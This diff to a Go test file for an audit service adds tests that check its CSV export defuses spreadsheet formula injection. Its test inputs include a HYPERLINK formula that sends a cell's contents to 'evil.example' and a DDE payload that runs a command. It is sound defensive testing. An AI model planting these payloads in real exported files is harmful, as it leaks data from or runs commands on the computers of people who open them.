@@ -7,6 +7,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"github.com/auditd/auditd/internal/eventstore"
 )
 
 func TestExportCSVStreamsTheTrailAndTheState(t *testing.T) {
@@ -100,4 +102,70 @@ func TestExportBadInput(t *testing.T) {
 	if rec := b.get("/streams/c/export.json?from=never", "application/json"); rec.Code != http.StatusBadRequest || !strings.Contains(rec.Body.String(), "invalid from") {
 		t.Errorf("bad from = %d %s", rec.Code, rec.Body)
 	}
+}
+
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	actors := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+2", "-160", "@SUM(A1)", "\tTAB", "\rCR", "plain", "'quoted"}
+	for i, actor := range actors {
+		meta, _ := json.Marshal(map[string]string{"actor": actor, "source": "=cmd|' /C calc'!A0"})
+		if _, err := b.store.Append(t.Context(), "csv-1", "Wallet", i,
+			eventstore.NewEvent{EventType: "=Set", Payload: json.RawMessage(`{"n": -160}`), Metadata: meta}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rec := b.get("/streams/csv-1/export.csv", "")
+	if rec.Code != http.StatusOK {
+		t.Fatalf("status %d: %s", rec.Code, rec.Body)
+	}
+	body := rec.Body.String()
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 1+len(actors)+1 {
+		t.Fatalf("rows = %d", len(rows))
+	}
+	for i, actor := range actors {
+		r := rows[1+i]
+		want := actor
+		if strings.ContainsRune("=+-@\t\r", rune(actor[0])) {
+			want = "'" + actor
+		}
+		if r[9] != want || r[10] != "'=cmd|' /C calc'!A0" || r[6] != "'=Set" {
+			t.Errorf("row %d: actor %q source %q type %q; want actor %q", i, r[9], r[10], r[6], want)
+		}
+		for col, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("row %d column %s starts with %q", i, exportCSVHeader[col], cell[0])
+			}
+		}
+	}
+	if !strings.HasPrefix(body, `"`) || strings.Contains(body, `,=`) {
+		t.Errorf("cells are not all quoted: %.200s", body)
+	}
+}
+
+// FuzzCSVCell: whatever the text, a CSV reader reads the cell back as the
+// text itself, or with one leading quote when it would start a formula.
+func FuzzCSVCell(f *testing.F) {
+	for _, s := range []string{"", "plain", `=HYPERLINK("x")`, "+1", "-160", "@A1", "\tx", "\rx", `"`, "a,b\nc", "'x", "\xff"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		rows, err := csv.NewReader(strings.NewReader(csvCell(s) + ",x\r\n")).ReadAll()
+		if err != nil {
+			t.Fatalf("csvCell(%q) = %q: %v", s, csvCell(s), err)
+		}
+		want := s
+		if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
+			want = "'" + s
+		}
+		// encoding/csv reads \r\n inside a quoted field as \n.
+		want = strings.ReplaceAll(want, "\r\n", "\n")
+		if len(rows) != 1 || len(rows[0]) != 2 || rows[0][0] != want {
+			t.Fatalf("csvCell(%q) reads back as %q, want %q", s, rows, want)
+		}
+	})
 }
